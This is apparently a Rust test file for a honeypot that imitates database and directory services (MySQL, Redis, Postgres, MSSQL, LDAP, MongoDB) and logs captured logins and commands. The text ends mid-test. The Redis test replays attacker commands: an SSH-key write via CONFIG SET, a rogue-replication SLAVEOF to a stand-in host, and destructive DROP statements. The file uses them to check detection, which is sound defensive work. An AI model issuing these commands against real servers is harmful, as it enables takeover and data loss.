//! Database and infrastructure services driven by real client
//! crates (mysql_async, redis, tokio-postgres, ldap3, rumqttc) and by raw
//! official wire formats where no light client exists; every test asserts
//! the captured events.
#![allow(clippy::unwrap_used)]

mod db_common;
mod webmail_util;

use std::time::Duration;

use db_common::{deploy, s};
use decnet_core::EventKind;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

// ---------------------------------------------------------------- mysql

#[tokio::test]
async fn mysql_native_password_captured_in_hashcat_form_and_denied() {
    let mut env = deploy("127.0.63.10", "services = mysql\ndistro = debian\n").await;
    let url = format!("mysql://root:hunter2@{}/shop", env.addr(3306));
    let err = mysql_async::Conn::from_url(url)
        .await
        .expect_err("login must fail");
    // Debian's MariaDB root@localhost authenticates by unix_socket: any
    // password over TCP from loopback is error 1698.
    let msg = err.to_string();
    assert!(
        msg.contains("1698") && msg.contains("Access denied for user 'root'@'localhost'"),
        "{msg}"
    );
    assert!(!msg.contains("using password"), "{msg}");
    let e = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&e, "username"), "root");
    assert_eq!(s(&e, "secret_kind"), "mysql_native_password");
    assert_eq!(s(&e, "database"), "shop");
    assert_eq!(e.fields["success"], false);
    // The capture is usable: the response is the scramble of the real
    // password over the captured salt, and the hashcat line says so.
    let salt = hex::decode(s(&e, "salt")).unwrap();
    let resp = hex::decode(s(&e, "response")).unwrap();
    assert_eq!(salt.len(), 20);
    assert_eq!(
        resp,
        decnet_services::wire::mysql::native_scramble(b"hunter2", &salt)
    );
    assert_eq!(
        s(&e, "hashcat"),
        format!("$mysqlna${}*{}", hex::encode(&salt), hex::encode(&resp))
    );
    // An unknown user is refused as the account MariaDB picks for its
    // name: `user1` gets the locked mariadb.sys's 1045, `admin` a
    // unix_socket account's 1698 (what MariaDB 10.11 answered for both).
    let refusal = |user: &'static str, password: &'static str| {
        let url = format!("mysql://{user}:{password}@{}/", env.addr(3306));
        async move {
            mysql_async::Conn::from_url(url)
                .await
                .expect_err("login must fail")
                .to_string()
        }
    };
    let msg = refusal("user1", "x").await;
    assert!(
        msg.contains("1045")
            && msg.contains("Access denied for user 'user1'@'localhost' (using password: YES)"),
        "{msg}"
    );
    let msg = refusal("admin", "x").await;
    assert!(
        msg.contains("1698")
            && msg.contains("Access denied for user 'admin'@'localhost'")
            && !msg.contains("using password"),
        "{msg}"
    );
    // The locked mariadb.sys itself, without a password.
    let msg = refusal("mariadb.sys", "").await;
    assert!(
        msg.contains("4151") && msg.contains("this account is locked"),
        "{msg}"
    );
    env.stop().await;
}

#[tokio::test]
async fn mysql_configured_login_succeeds_and_queries_are_logged() {
    use mysql_async::prelude::*;
    // Ubuntu persona: MySQL 8 with caching_sha2_password by default.
    let mut env = deploy(
        "127.0.63.11",
        "services = mysql\ndistro = ubuntu22\n[t.mysql]\nuser = app\npassword = s3cret\n",
    )
    .await;
    let url = format!("mysql://app:s3cret@{}/", env.addr(3306));
    let mut conn = mysql_async::Conn::from_url(url)
        .await
        .expect("configured login works");
    let v: Option<String> = conn.query_first("SELECT @@version").await.unwrap();
    assert_eq!(v.as_deref(), Some("8.0.36-0ubuntu0.22.04.1"));
    let dbs: Vec<String> = conn.query("SHOW DATABASES").await.unwrap();
    assert!(dbs.contains(&"mysql".to_owned()), "{dbs:?}");
    conn.query_drop("DROP TABLE users").await.unwrap();
    conn.disconnect().await.unwrap();

    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "secret_kind"), "caching_sha2_password");
    assert_eq!(a.fields["success"], true);
    let mut cmds = Vec::new();
    for ev in env.drain(Duration::from_millis(500)).await {
        if ev.kind == EventKind::Command {
            cmds.push(s(&ev, "command").to_owned());
        }
    }
    assert!(cmds.iter().any(|c| c == "SELECT @@version"), "{cmds:?}");
    assert!(cmds.iter().any(|c| c == "DROP TABLE users"), "{cmds:?}");
    env.stop().await;
}

/// Connects, reads the greeting, sends `bytes`, returns what comes back
/// before the server closes.
async fn mysql_after_greeting(addr: &str, bytes: &[u8]) -> Vec<u8> {
    let mut c = TcpStream::connect(addr).await.unwrap();
    let mut greet = [0u8; 256];
    let n = c.read(&mut greet).await.unwrap();
    assert!(n > 40 && greet[4] == 10, "handshake v10 expected");
    c.write_all(bytes).await.unwrap();
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), c.read_to_end(&mut rest)).await;
    rest
}

#[tokio::test]
async fn mysql_non_handshake_bytes_get_the_servers_errors() {
    let mut env = deploy("127.0.63.12", "services = mysql\ndistro = debian\n").await;
    let addr = env.addr(3306);
    // The MariaDB greeting's capabilities: 0xf7fe / 0x81ff and MariaDB's
    // own 0x1d in the filler.
    let mut c = TcpStream::connect(&addr).await.unwrap();
    let mut greet = [0u8; 256];
    let n = c.read(&mut greet).await.unwrap();
    let g = &greet[4..n];
    let caps_at = g.iter().position(|&b| b == 0).unwrap() + 1 + 4 + 8 + 1;
    assert_eq!(&g[caps_at..caps_at + 2], &[0xfe, 0xf7]);
    assert_eq!(&g[caps_at + 5..caps_at + 7], &[0xff, 0x81]);
    assert_eq!(&g[caps_at + 14..caps_at + 18], &[0x1d, 0, 0, 0]);
    drop(c);

    // An HTTP request: its "sequence id" is not 1.
    let r = mysql_after_greeting(&addr, b"GET / HTTP/1.0\r\n\r\n").await;
    assert_eq!(
        &r,
        b"\x21\x00\x00\x01\xff\x84\x04#08S01Got packets out of order"
    );
    // A PROXY protocol v2 signature.
    let r = mysql_after_greeting(&addr, b"\r\n\r\n").await;
    assert_eq!(&r[4..7], &[0xff, 0x6a, 0x04]);
    assert!(
        r.ends_with(b"Proxy header is not accepted from 127.0.0.1"),
        "{r:?}"
    );
    // A response without CLIENT_PROTOCOL_41: no SQL state in the error.
    let r = mysql_after_greeting(&addr, b"\x05\x00\x00\x01garbage").await;
    assert_eq!(&r, b"\x10\x00\x00\x02\xff\x13\x04Bad handshake");
    // A packet over the decoy's limit is read to its end, then refused.
    let big = 70 * 1024u32;
    let mut pkt = big.to_le_bytes()[..3].to_vec();
    pkt.push(1);
    pkt.resize(4 + big as usize, b'A');
    let r = mysql_after_greeting(&addr, &pkt).await;
    let mut errors = Vec::new();
    for _ in 0..4 {
        let e = env.next(EventKind::Error).await;
        errors.push(s(&e, "error").to_owned());
    }
    assert_eq!(
        errors[..3],
        [
            "mysql: packet out of order",
            "mysql: PROXY protocol header",
            "mysql: bad handshake response: unterminated string"
        ]
    );
    assert!(errors[3].contains("over limit"), "{errors:?}");
    assert_eq!(r.get(4), Some(&0xff), "ERR packet before close");
    // The service still answers.
    let mut c2 = TcpStream::connect(&addr).await.unwrap();
    assert!(c2.read(&mut greet).await.unwrap() > 40);
    env.stop().await;
}

// ---------------------------------------------------------------- redis

/// Runs one Redis command, its name and arguments as strings.
async fn redis_run<T: redis::FromRedisValue>(
    c: &mut redis::aio::MultiplexedConnection,
    args: &[&str],
) -> redis::RedisResult<T> {
    let mut cmd = redis::cmd(args[0]);
    for a in &args[1..] {
        cmd.arg(*a);
    }
    cmd.query_async(c).await
}

#[tokio::test]
async fn redis_requirepass_noauth_wrongpass_and_exploit_commands() {
    let mut env = deploy(
        "127.0.63.13",
        "services = redis\ndistro = debian\n[t.redis]\npassword = foobared\n",
    )
    .await;
    let addr = env.addr(6379);
    // No AUTH: NOAUTH like requirepass.
    let client = redis::Client::open(format!("redis://{addr}/")).unwrap();
    let mut c = client.get_multiplexed_async_connection().await.unwrap();
    let err = redis_run::<String>(&mut c, &["PING"]).await.unwrap_err();
    assert!(err.to_string().contains("Authentication required"), "{err}");

    // Wrong password: refused, captured.
    let bad = redis::Client::open(format!("redis://:letmein@{addr}/")).unwrap();
    let Err(err) = bad.get_multiplexed_async_connection().await else {
        panic!("wrong password refused")
    };
    assert!(
        err.to_string()
            .to_lowercase()
            .contains("authentication failed"),
        "{err}"
    );
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(
        (s(&a, "username"), s(&a, "password")),
        ("default", "letmein")
    );
    assert_eq!(a.fields["success"], false);

    // Right password: the classic webshell/ssh-key write is recorded.
    let good = redis::Client::open(format!("redis://:foobared@{addr}/")).unwrap();
    let mut c = good.get_multiplexed_async_connection().await.unwrap();
    let ok = env.next(EventKind::AuthAttempt).await;
    assert_eq!(ok.fields["success"], true);
    let info: String = redis_run(&mut c, &["INFO", "server"]).await.unwrap();
    assert!(info.contains("redis_version:7.0.15"), "{info}");
    assert!(info.contains("redis_build_id:ae4d7c971a948f0"), "{info}");
    assert!(info.contains("io_threads_active:0"), "{info}");
    // Redis 7 refuses the protected configs; the attempt is still recorded.
    for (key, value) in [("dir", "/root/.ssh"), ("dbfilename", "authorized_keys")] {
        let err = redis_run::<()>(&mut c, &["CONFIG", "SET", key, value])
            .await
            .unwrap_err();
        assert!(
            err.to_string().contains(&format!(
                "CONFIG SET failed (possibly related to argument '{key}') - can't set protected config"
            )),
            "{err}"
        );
    }
    let dir: Vec<String> = redis_run(&mut c, &["CONFIG", "GET", "dir"]).await.unwrap();
    assert_eq!(dir, vec!["dir".to_owned(), "/var/lib/redis".to_owned()]);
    let _: () = redis_run(&mut c, &["SET", "x", "ssh-rsa AAAA attacker"])
        .await
        .unwrap();
    let x: String = redis_run(&mut c, &["GET", "x"]).await.unwrap();
    assert_eq!(x, "ssh-rsa AAAA attacker");
    let _: () = redis_run(&mut c, &["SLAVEOF", "10.9.9.9", "8888"])
        .await
        .unwrap();
    let keys: Vec<String> = redis_run(&mut c, &["KEYS", "session:*"]).await.unwrap();
    assert_eq!(keys.len(), 2, "{keys:?}");

    let mut tags = Vec::new();
    for ev in env.drain(Duration::from_millis(500)).await {
        if ev.kind == EventKind::Command {
            if let Some(t) = ev.fields.get("exploit").and_then(|v| v.as_str()) {
                tags.push(t.to_owned());
            }
        }
    }
    for want in [
        "config_set_dir",
        "config_set_dbfilename",
        "rogue_replication",
    ] {
        assert!(
            tags.iter().any(|t| t == want),
            "{want} missing from {tags:?}"
        );
    }
    env.stop().await;
}

#[tokio::test]
async fn redis_without_password_needs_no_auth_and_closes_on_garbage() {
    let mut env = deploy("127.0.63.14", "services = redis\ndistro = debian\n").await;
    let client = redis::Client::open(format!("redis://{}/", env.addr(6379))).unwrap();
    let mut c = client.get_multiplexed_async_connection().await.unwrap();
    let pong: String = redis_run(&mut c, &["PING"]).await.unwrap();
    assert_eq!(pong, "PONG");
    let n: i64 = redis_run(&mut c, &["DBSIZE"]).await.unwrap();
    assert!(n >= 5);
    let _: () = redis_run(&mut c, &["CLIENT", "SETNAME", "probe"])
        .await
        .unwrap();
    let name: String = redis_run(&mut c, &["CLIENT", "GETNAME"]).await.unwrap();
    assert_eq!(name, "probe");
    let count: i64 = redis_run(&mut c, &["COMMAND", "COUNT"]).await.unwrap();
    assert_eq!(count, 240, "Redis 7.0's command table");
    // Without requirepass the default user is nopass: any password works.
    let _: () = redis_run(&mut c, &["AUTH", "default", "whatever"])
        .await
        .unwrap();

    // Inline commands as Redis splits and answers them.
    let inline = |bytes: &'static [u8]| {
        let addr = env.addr(6379);
        async move {
            let mut raw = TcpStream::connect(addr).await.unwrap();
            raw.write_all(bytes).await.unwrap();
            let mut out = vec![0u8; 512];
            let n = tokio::time::timeout(Duration::from_secs(5), raw.read(&mut out))
                .await
                .unwrap()
                .unwrap();
            out.truncate(n);
            out
        }
    };
    assert_eq!(
        inline(b"GET / HTTP/1.0\r\n").await,
        b"-ERR wrong number of arguments for 'get' command\r\n"
    );
    assert_eq!(
        inline(b"FLURB \"a\\x41b\" \x01x\r\n").await,
        b"-ERR unknown command 'FLURB', with args beginning with: 'aAb' '\x01x' \r\n"
    );
    assert_eq!(
        inline(b"SET \"a b\r\n").await,
        b"-ERR Protocol error: unbalanced quotes in request\r\n"
    );
    // An HTTP request is dropped without a word (Redis' cross-protocol
    // guard).
    assert_eq!(inline(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n").await, b"");
    // Binary before the newline: Redis looks for the newline with strchr,
    // so a NUL hides it and the server keeps waiting.
    let mut raw = TcpStream::connect(env.addr(6379)).await.unwrap();
    raw.write_all(b"\x16\x03\x00\x00S\n").await.unwrap();
    let mut one = [0u8; 1];
    assert!(
        tokio::time::timeout(Duration::from_millis(700), raw.read(&mut one))
            .await
            .is_err(),
        "answered binary junk"
    );
    // Garbage multibulk: protocol error, error event, connection closed.
    let mut raw = TcpStream::connect(env.addr(6379)).await.unwrap();
    raw.write_all(b"*2\r\n$99999999999\r\n").await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut out)).await;
    assert!(
        String::from_utf8_lossy(&out).starts_with("-ERR Protocol error"),
        "{out:?}"
    );
    let e = env.next(EventKind::Error).await;
    assert!(s(&e, "error").contains("protocol error"));
    env.stop().await;
}

// ---------------------------------------------------------------- postgres

async fn pg_connect(
    addr: &str,
    user: &str,
    pw: &str,
) -> Result<tokio_postgres::Client, tokio_postgres::Error> {
    let (host, port) = addr.split_once(':').unwrap();
    let cfg =
        format!("host={host} port={port} user={user} password={pw} dbname=crm connect_timeout=5");
    let (client, conn) = tokio_postgres::connect(&cfg, tokio_postgres::NoTls).await?;
    tokio::spawn(conn);
    Ok(client)
}

#[tokio::test]
async fn postgres_scram_captured_and_exact_error_text() {
    let mut env = deploy(
        "127.0.63.15",
        "services = postgres\ndistro = debian\n[t.postgres]\npassword = Pg-Pass1\n",
    )
    .await;
    let Err(err) = pg_connect(&env.addr(5432), "postgres", "wrong").await else {
        panic!("refused")
    };
    let db = err.as_db_error().expect("server error");
    assert_eq!(
        db.message(),
        "password authentication failed for user \"postgres\""
    );
    assert_eq!(db.code().code(), "28P01");
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "secret_kind"), "postgres_scram_sha256");
    assert_eq!(s(&a, "username"), "postgres");
    assert_eq!(s(&a, "database"), "crm");
    assert_eq!(a.fields["iterations"], 4096);
    assert!(s(&a, "nonce").starts_with(s(&a, "client_nonce")));
    assert!(!s(&a, "proof").is_empty());
    assert_eq!(a.fields["success"], false);

    let client = pg_connect(&env.addr(5432), "postgres", "Pg-Pass1")
        .await
        .expect("configured login");
    let rows = client.simple_query("select version()").await.unwrap();
    let v = rows.iter().find_map(|m| match m {
        tokio_postgres::SimpleQueryMessage::Row(r) => r.get(0).map(str::to_owned),
        _ => None,
    });
    assert!(v.unwrap().starts_with("PostgreSQL 15.6"));
    client.simple_query("DROP DATABASE crm").await.unwrap();
    let ok = env.next(EventKind::AuthAttempt).await;
    assert_eq!(ok.fields["success"], true);
    let c1 = env.next(EventKind::Command).await;
    assert_eq!(s(&c1, "command"), "select version()");
    let c2 = env.next(EventKind::Command).await;
    assert_eq!(s(&c2, "command"), "DROP DATABASE crm");
    env.stop().await;
}

#[tokio::test]
async fn postgres_md5_captured_as_hashcat_11100() {
    let mut env = deploy(
        "127.0.63.16",
        "services = postgres\n[t.postgres]\nauth = md5\npassword = other\n",
    )
    .await;
    let Err(err) = pg_connect(&env.addr(5432), "admin", "Summer2024").await else {
        panic!("refused")
    };
    let db = err.as_db_error().expect("server error");
    assert_eq!(
        db.message(),
        "password authentication failed for user \"admin\""
    );
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "secret_kind"), "postgres_md5");
    let salt: [u8; 4] = hex::decode(s(&a, "salt")).unwrap().try_into().unwrap();
    let expect = decnet_services::wire::pg::md5_response("admin", "Summer2024", &salt);
    assert_eq!(s(&a, "response"), expect);
    assert_eq!(
        s(&a, "hashcat"),
        format!("$postgres$admin*{}*{}", hex::encode(salt), &expect[3..])
    );
    // Garbage startup length: error event, no crash.
    let mut raw = TcpStream::connect(env.addr(5432)).await.unwrap();
    raw.write_all(&[0x7f, 0xff, 0xff, 0xff, 0, 3, 0, 0])
        .await
        .unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(
        s(&e, "error").contains("invalid length of startup packet"),
        "{:?}",
        e.fields
    );
    env.stop().await;
}

fn pg_startup(proto: u32, user: &str) -> Vec<u8> {
    let mut body = proto.to_be_bytes().to_vec();
    body.extend_from_slice(b"user\0");
    body.extend_from_slice(user.as_bytes());
    body.extend_from_slice(b"\0\0");
    let mut out = ((body.len() + 4) as u32).to_be_bytes().to_vec();
    out.extend_from_slice(&body);
    out
}

#[tokio::test]
async fn postgres_debian_cluster_speaks_tls_and_old_clients_get_old_errors() {
    let mut env = deploy("127.0.63.32", "services = postgres\ndistro = debian\n").await;
    let addr = env.addr(5432);
    // SSLRequest: `S`, then a real TLS handshake and the startup inside it.
    let mut raw = TcpStream::connect(&addr).await.unwrap();
    raw.write_all(b"\x00\x00\x00\x08\x04\xd2\x16\x2f")
        .await
        .unwrap();
    let mut one = [0u8; 1];
    raw.read_exact(&mut one).await.unwrap();
    assert_eq!(&one, b"S");
    let name = rustls::pki_types::ServerName::try_from("localhost").unwrap();
    let mut tls = webmail_util::insecure_tls()
        .connect(name, raw)
        .await
        .expect("TLS handshake after S");
    tls.write_all(&pg_startup(0x0003_0000, "postgres"))
        .await
        .unwrap();
    let mut head = [0u8; 9];
    tls.read_exact(&mut head).await.unwrap();
    assert_eq!(head[0], b'R', "authentication request over TLS");
    assert_eq!(&head[5..9], &10u32.to_be_bytes(), "SASL");
    let e = env.next(EventKind::Scan).await;
    assert_eq!(s(&e, "event_type"), "tls_client_hello");
    drop(tls);

    // GSSENCRequest: a GSSAPI build says `G`, then hangs up on the token.
    let mut raw = TcpStream::connect(&addr).await.unwrap();
    raw.write_all(b"\x00\x00\x00\x08\x04\xd2\x16\x30")
        .await
        .unwrap();
    raw.read_exact(&mut one).await.unwrap();
    assert_eq!(&one, b"G");
    raw.write_all(b"\x00\x00\x00\x04abcd").await.unwrap();
    let mut rest = Vec::new();
    tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut rest))
        .await
        .unwrap()
        .unwrap();
    assert!(rest.is_empty(), "{rest:?}");

    // Protocol 2.0: the old one-line error; 9.9: the v3 ErrorResponse.
    let mut raw = TcpStream::connect(&addr).await.unwrap();
    raw.write_all(&pg_startup(0x0002_0000, "postgres"))
        .await
        .unwrap();
    let mut rest = Vec::new();
    raw.read_to_end(&mut rest).await.unwrap();
    assert_eq!(
        rest,
        b"EFATAL:  unsupported frontend protocol 2.0: server supports 3.0 to 3.0\n\0"
    );
    let mut raw = TcpStream::connect(&addr).await.unwrap();
    raw.write_all(&pg_startup(0x0009_0009, "postgres"))
        .await
        .unwrap();
    let mut rest = Vec::new();
    raw.read_to_end(&mut rest).await.unwrap();
    assert_eq!(rest[0], b'E');
    assert!(
        rest.windows(19).any(|w| w == b"Fpostmaster.c\0L2222"),
        "{rest:?}"
    );
    env.stop().await;
}

// ---------------------------------------------------------------- mssql

async fn tds_send(c: &mut TcpStream, ty: u8, payload: &[u8]) {
    c.write_all(&decnet_services::wire::tds::packet(ty, payload))
        .await
        .unwrap();
}

async fn tds_reply(c: &mut TcpStream) -> Vec<u8> {
    let mut h = [0u8; 8];
    c.read_exact(&mut h).await.unwrap();
    let len = u16::from_be_bytes([h[2], h[3]]) as usize;
    let mut p = vec![0u8; len - 8];
    c.read_exact(&mut p).await.unwrap();
    p
}

#[tokio::test]
async fn mssql_prelogin_login7_password_deobfuscated_and_error_18456() {
    use decnet_services::wire::tds;
    let mut env = deploy("127.0.63.17", "services = mssql\ndistro = windows2019\n").await;
    let mut c = TcpStream::connect(env.addr(1433)).await.unwrap();
    // PRELOGIN as nmap/ODBC send it (VERSION, ENCRYPTION off, terminator).
    let pre = [0u8, 0, 11, 0, 6, 1, 0, 17, 0, 1, 0xff, 9, 0, 0, 0, 0, 0, 0];
    tds_send(&mut c, tds::ty::PRELOGIN, &pre).await;
    let r = tds_reply(&mut c).await;
    let opts = tds::parse_prelogin(&r).unwrap();
    assert_eq!(
        opts[0],
        (0, vec![15, 0, 0x07, 0xd0, 0, 0]),
        "SQL Server 2019 version"
    );
    assert_eq!(opts[1], (1, vec![2]), "encryption not supported");
    tds_send(
        &mut c,
        tds::ty::LOGIN7,
        &tds::build_login7("sa", "Winter2024!", "sqlcmd", "master"),
    )
    .await;
    let r = tds_reply(&mut c).await;
    assert_eq!(r[0], 0xaa, "ERROR token");
    assert_eq!(i32::from_le_bytes([r[3], r[4], r[5], r[6]]), 18456);
    let text: Vec<u16> = r[11..11 + 2 * r[9] as usize]
        .chunks(2)
        .map(|x| u16::from_le_bytes([x[0], x[1]]))
        .collect();
    assert_eq!(
        String::from_utf16_lossy(&text),
        "Login failed for user 'sa'."
    );
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(
        (s(&a, "username"), s(&a, "password")),
        ("sa", "Winter2024!")
    );
    assert_eq!(s(&a, "application"), "sqlcmd");
    // Garbage header: error event.
    let mut g = TcpStream::connect(env.addr(1433)).await.unwrap();
    g.write_all(&[0x12, 1, 0, 3, 0, 0, 0, 0]).await.unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(
        s(&e, "error").contains("invalid TDS packet length"),
        "{:?}",
        e.fields
    );
    env.stop().await;
}

// ---------------------------------------------------------------- ldap

#[tokio::test]
async fn ldap_simple_bind_captured_rootdse_and_search_logged() {
    use ldap3::{LdapConnAsync, Scope, SearchEntry};
    let mut env = deploy(
        "127.0.63.18",
        "services = ldap\ndistro = debian\n[t.ldap]\nbase_dn = dc=corp,dc=local\n",
    )
    .await;
    let url = format!("ldap://{}", env.addr(389));
    let (conn, mut ldap) = LdapConnAsync::new(&url).await.unwrap();
    ldap3::drive!(conn);
    let r = ldap
        .simple_bind("cn=admin,dc=corp,dc=local", "Secr3t!")
        .await
        .unwrap();
    assert_eq!(r.rc, 49, "invalidCredentials");
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "username"), "cn=admin,dc=corp,dc=local");
    assert_eq!(s(&a, "password"), "Secr3t!");

    // Anonymous: rootDSE and a subtree search of the persona directory.
    let r = ldap.simple_bind("", "").await.unwrap();
    assert_eq!(r.rc, 0);
    let (rs, _) = ldap
        .search(
            "",
            Scope::Base,
            "(objectClass=*)",
            vec!["namingContexts", "supportedLDAPVersion"],
        )
        .await
        .unwrap()
        .success()
        .unwrap();
    let root = SearchEntry::construct(rs[0].clone());
    assert_eq!(
        root.attrs["namingContexts"],
        vec!["dc=corp,dc=local".to_owned()]
    );
    let (rs, _) = ldap
        .search(
            "dc=corp,dc=local",
            Scope::Subtree,
            "(uid=jsmith)",
            vec!["cn", "mail"],
        )
        .await
        .unwrap()
        .success()
        .unwrap();
    assert_eq!(rs.len(), 1);
    let e = SearchEntry::construct(rs[0].clone());
    assert_eq!(e.dn, "uid=jsmith,ou=People,dc=corp,dc=local");
    assert_eq!(e.attrs["mail"], vec!["jsmith@corp.local".to_owned()]);
    ldap.unbind().await.unwrap();
    let mut filters = Vec::new();
    for ev in env.drain(Duration::from_millis(500)).await {
        if ev.kind == EventKind::Command {
            if let Some(f) = ev.fields.get("filter").and_then(|v| v.as_str()) {
                filters.push(f.to_owned());
            }
        }
    }
    assert_eq!(
        filters,
        vec!["(objectClass=*)".to_owned(), "(uid=jsmith)".to_owned()]
    );

    // A BER length past the limit: error event and close.
    let mut raw = TcpStream::connect(env.addr(389)).await.unwrap();
    raw.write_all(&[0x30, 0x84, 0x7f, 0xff, 0xff, 0xff])
        .await
        .unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(s(&e, "error").contains("over limit"), "{:?}", e.fields);
    env.stop().await;
}

#[tokio::test]
async fn ldap_linux_persona_answers_like_slapd() {
    use ldap3::exop::{WhoAmI, WhoAmIResp};
    use ldap3::{LdapConnAsync, Scope, SearchEntry};
    let env = deploy(
        "127.0.63.31",
        "services = ldap\ndistro = debian\n[t.ldap]\nbase_dn = dc=corp,dc=local\n",
    )
    .await;
    let url = format!("ldap://{}", env.addr(389));
    let (conn, mut ldap) = LdapConnAsync::new(&url).await.unwrap();
    ldap3::drive!(conn);

    // The root DSE: only objectClass by default, the rest with `+`.
    let root = |rs: Vec<ldap3::ResultEntry>| SearchEntry::construct(rs[0].clone());
    let (rs, _) = ldap
        .search("", Scope::Base, "(objectClass=*)", Vec::<&str>::new())
        .await
        .unwrap()
        .success()
        .unwrap();
    let plain = root(rs);
    assert_eq!(plain.attrs.keys().collect::<Vec<_>>(), vec!["objectClass"]);
    let (rs, _) = ldap
        .search("", Scope::Base, "(objectClass=*)", vec!["+"])
        .await
        .unwrap()
        .success()
        .unwrap();
    let ops = root(rs);
    assert!(!ops.attrs.contains_key("objectClass"));
    assert_eq!(ops.attrs["configContext"], vec!["cn=config".to_owned()]);
    assert_eq!(
        ops.attrs["structuralObjectClass"],
        vec!["OpenLDAProotDSE".to_owned()]
    );
    assert!(ops.attrs["supportedSASLMechanisms"].contains(&"SCRAM-SHA-512".to_owned()));

    // The subschema subentry the root DSE points at exists.
    let (rs, _) = ldap
        .search(
            "cn=Subschema",
            Scope::Base,
            "(objectClass=*)",
            vec!["objectClass"],
        )
        .await
        .unwrap()
        .success()
        .unwrap();
    let schema = root(rs);
    assert_eq!(schema.dn, "cn=Subschema");
    assert!(schema.attrs["objectClass"].contains(&"subschema".to_owned()));

    // Who am I: anonymous, an empty authzid.
    let (exop, _) = ldap.extended(WhoAmI).await.unwrap().success().unwrap();
    assert_eq!(exop.parse::<WhoAmIResp>().authzid, "");

    // A DN with an empty password is an unauthenticated bind: refused.
    let r = ldap
        .simple_bind("cn=admin,dc=corp,dc=local", "")
        .await
        .unwrap();
    assert_eq!(r.rc, 53, "unwillingToPerform");
    assert_eq!(
        r.text,
        "unauthenticated bind (DN with no password) disallowed"
    );
    ldap.unbind().await.unwrap();

    // An LDAPv2 bind (nmap's LDAPBindReq probe) is refused with slapd's text
    // and the connection stays open.
    let mut raw = TcpStream::connect(env.addr(389)).await.unwrap();
    raw.write_all(b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x02\x04\x00\x80\x00")
        .await
        .unwrap();
    let mut buf = vec![0u8; 256];
    let n = tokio::time::timeout(Duration::from_secs(5), raw.read(&mut buf))
        .await
        .unwrap()
        .unwrap();
    let reply = &buf[..n];
    assert_eq!(&reply[..2], b"\x30\x45");
    assert!(
        reply.ends_with(b"historical protocol version requested, use LDAPv3 instead"),
        "{reply:?}"
    );

    // Bytes that are not LDAP: closed without a notice of disconnection.
    let mut junk = TcpStream::connect(env.addr(389)).await.unwrap();
    junk.write_all(b"\x00\x0c\x00\x00\x10\x00\x00\x00\x00\x00\x00\x00\x00\x00")
        .await
        .unwrap();
    let mut rest = Vec::new();
    tokio::time::timeout(Duration::from_secs(5), junk.read_to_end(&mut rest))
        .await
        .unwrap()
        .unwrap();
    assert!(rest.is_empty(), "{rest:?}");
    env.stop().await;
}

// ---------------------------------------------------------------- mongodb

async fn mongo_call(c: &mut TcpStream, msg: &[u8]) -> (i32, decnet_services::wire::bson::Doc) {
    use decnet_services::wire::{bson, Cursor};
    c.write_all(msg).await.unwrap();
    let mut h = [0u8; 16];
    c.read_exact(&mut h).await.unwrap();
    let hd = bson::header(h).unwrap();
    let mut body = vec![0u8; hd.length - 16];
    c.read_exact(&mut body).await.unwrap();
    let doc = if hd.op == 1 {
        bson::decode_doc(&mut Cursor::new(&body[20..]), 0).unwrap()
    } else {
        bson::decode_command(2013, &body).unwrap().doc
    };
    (hd.op, doc)
}

#[tokio::test]
async fn mongodb_hello_buildinfo_listdatabases_and_scram_capture() {
    use decnet_services::bson_doc;
    use decnet_services::wire::bson::{get, op_msg_request, Bson};
    let mut env = deploy("127.0.63.19", "services = mongodb\ndistro = ubuntu22\n").await;
    let mut c = TcpStream::connect(env.addr(27017)).await.unwrap();
    let (_, hello) = mongo_call(
        &mut c,
        &op_msg_request(
            1,
            &bson_doc! {"hello" => Bson::I32(1), "$db" => Bson::Str("admin".into())},
        ),
    )
    .await;
    assert_eq!(get(&hello, "isWritablePrimary"), Some(&Bson::Bool(true)));
    assert_eq!(get(&hello, "maxWireVersion"), Some(&Bson::I32(17)));
    let (_, bi) = mongo_call(
        &mut c,
        &op_msg_request(
            2,
            &bson_doc! {"buildInfo" => Bson::I32(1), "$db" => Bson::Str("admin".into())},
        ),
    )
    .await;
    assert_eq!(get(&bi, "version"), Some(&Bson::Str("6.0.14".into())));
    let (_, ld) = mongo_call(
        &mut c,
        &op_msg_request(
            3,
            &bson_doc! {"listDatabases" => Bson::I32(1), "$db" => Bson::Str("admin".into())},
        ),
    )
    .await;
    let Some(Bson::Array(dbs)) = get(&ld, "databases") else {
        panic!("{ld:?}")
    };
    assert!(dbs.len() >= 4);
    // Every command is logged, the handshake included.
    let cmd = env.next(EventKind::Command).await;
    assert_eq!(s(&cmd, "command"), "hello");
    let cmd = env.next(EventKind::Command).await;
    assert_eq!(s(&cmd, "command"), "buildInfo");

    // SCRAM-SHA-256 as drivers run it: saslStart then saslContinue.
    let first = b"n,,n=root,r=fyko+d2lbbFgONRv9qkxdawL".to_vec();
    let (_, r1) = mongo_call(
        &mut c,
        &op_msg_request(
            4,
            &bson_doc! {
            "saslStart" => Bson::I32(1), "mechanism" => Bson::Str("SCRAM-SHA-256".into()),
            "payload" => Bson::Binary(0, first), "$db" => Bson::Str("admin".into())},
        ),
    )
    .await;
    let Some(Bson::Binary(_, sf)) = get(&r1, "payload") else {
        panic!("{r1:?}")
    };
    let sf = String::from_utf8(sf.clone()).unwrap();
    let nonce = sf
        .split(',')
        .next()
        .unwrap()
        .trim_start_matches("r=")
        .to_owned();
    assert!(
        nonce.starts_with("fyko+d2lbbFgONRv9qkxdawL") && sf.contains(",i=15000"),
        "{sf}"
    );
    let fin = format!("c=biws,r={nonce},p=dGhpcyBpcyBhIGZha2UgcHJvb2YgYnl0ZXMgMTIzNDU2Nzg=");
